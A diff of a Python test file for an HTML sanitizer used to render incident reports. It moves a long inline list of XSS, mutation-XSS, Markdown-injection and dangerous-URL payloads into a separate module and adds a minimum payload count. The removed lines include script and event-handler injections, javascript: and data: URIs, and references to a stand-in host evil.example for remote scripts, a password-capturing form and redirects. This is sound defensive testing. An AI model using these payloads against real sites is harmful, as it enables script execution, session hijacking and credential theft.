@@ -7,114 +7,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from incidents.report.rendering.html import ATTRIBUTES, SCHEMES, TAGS, to_html, to_text
+from tests.report.rendering.payloads import PAYLOADS
 
-ADDRESSES = [
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java\tscript:alert(1)",
-    "java&#10;script:alert(1)",
-    "&#106;avascript:alert(1)",
-    "&#x6A;avascript:alert(1)",
-    "javascript&colon;alert(1)",
-    "%6aavascript:alert(1)",
-    " javascript:alert(1)",
-    "\u00a0javascript:alert(1)",
-    "\u2028javascript:alert(1)",
-    "vbscript:msgbox(1)",
-    "data:text/html;base64,PHNjcmlwdD4=",
-    "data:image/svg+xml,<svg onload=alert(1)>",
-    "file:///etc/passwd",
-    "blob:https://x/1",
-    "view-source:javascript:alert(1)",
-    "//evil.example/x",
-    "/\\evil.example/x",
-    "\\\\evil.example\\x",
-    "https:evil.example",
-    "feed:javascript:alert(1)",
-    "jar:https://x!/y",
-    "x:y",
-    'https://x.example/"onmouseover="alert(1)',
-    "https://x.example/'onmouseover='alert(1)",
-    "<javascript:alert(1)>",
-    "/media/../accounts/logout",
-    "ht\x00tps://x",
-]
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<script\n>alert(1)</script\n>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=https://evil.example/pixel.gif>",
-    "<svg onload=alert(1)><circle/></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe src=https://evil.example></iframe>",
-    '<iframe srcdoc="<script>alert(1)</script>">',
-    "<object data=x.swf></object>",
-    "<embed src=x>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>*{background:url(//evil.example)}</style>",
-    '<p style="background:url(//evil.example)">x</p>',
-    "<form action=//evil.example><input name=password></form>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<video src=//evil.example/x.mp4 onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<body onload=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<a href='javascript:alert(1)'>x</a>",
-    '<a href="java\nscript:alert(1)">x</a>',
-    "<div id=main class=facts>x</div>",
-    "<!-- <script>alert(1)</script> -->",
-    "<!--><script>alert(1)</script>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo 1 ?>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<textarea></textarea><script>alert(1)</script>",
-    "<title></title><img src=x onerror=alert(1)>",
-    "<plaintext>",
-    "<template><script>alert(1)</script></template>",
-    "<x onclick=alert(1)>x",
-    "<a\x0chref=javascript:alert(1)>x</a>",
-    "< script >alert(1)</ script >",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
-    "\x02amp\x03lt;script>",
-    '```"><script>alert(1)</script>\nx\n```',
-    "``` {onclick=alert(1) .x #y}\nx\n```",
-    "```html\n</code></pre><script>alert(1)</script>\n```",
-    '```x" onclick="alert(1)\nx\n```',
-    "`</code><script>alert(1)</script>`",
-    "    </code></pre><script>alert(1)</script>",
-    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
-    '[x](https://x.example "t\\" onclick=\\"alert(1)")',
-    '![x" onerror="alert(1)](/media/x.png)',
-    '![x](/media/x.png" onerror="alert(1))',
-    '![x](/media/x.png "t\\" onload=\\"alert(1)")',
-    "[x]: javascript:alert(1)\n\n[x] and ![x]",
-    '[x]: <javascript:alert(1)> "t"\n\n[y][x]',
-    "<javascript:alert(1)>",
-    "<https://x.example/<script>>",
-    "https://x.example/<img/src=x/onerror=alert(1)>",
-    'https://x.example/"onmouseover=alert(1)',
-    '<mailto:"onclick=alert(1)"@x.example>',
-    "# <img src=x onerror=alert(1)> {#id .class}",
-    "x { onclick=alert(1) }\n{: onclick=alert(1) }",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "\ufeff<script>alert(1)</script>",
-    "<" * 500 + "script>alert(1)",
-    "> " * 500 + "<script>alert(1)</script>",
-]
-PAYLOADS = [
-    *HOSTILE,
-    *(f"[x]({address})" for address in ADDRESSES),
-    *(f"![x]({address})" for address in ADDRESSES),
-    *(f"<{address}>" for address in ADDRESSES),
-    *(f"[x]: {address}\n\n[y][x]" for address in ADDRESSES),
-]
 FRAGMENTS = st.lists(
     st.sampled_from(
         [*PAYLOADS, "**", "_", "`", "```\n", "\n\n", "> ", "- ", "|a|\n|-|\n", "](", "![", "<", ">", '"']
@@ -157,6 +51,10 @@ def assert_harmless(html: str) -> None:
             if name == "src":
                 assert re.fullmatch(r"/media/[\w./-]+", value or "")
                 assert ".." not in (value or "")
+
+
+def test_there_are_enough_payloads_to_mean_something() -> None:
+    assert len(set(PAYLOADS)) >= 300
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
